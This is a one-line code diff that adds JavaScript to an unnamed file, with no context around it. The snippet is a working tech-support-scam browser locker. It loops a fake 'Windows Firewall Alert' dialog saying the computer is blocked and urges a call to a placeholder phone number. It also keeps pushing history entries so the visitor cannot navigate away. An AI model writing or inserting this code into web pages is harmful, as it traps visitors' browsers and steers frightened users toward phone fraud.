@@ -1,0 +1,1 @@
+var tel='+1-000-000-0000';while(confirm('Windows Firewall Alert: your computer is blocked. Error #268D3. Call '+tel+' immediately. Do not restart.')||true){history.pushState({},'',location.pathname+'?'+Math.random())}
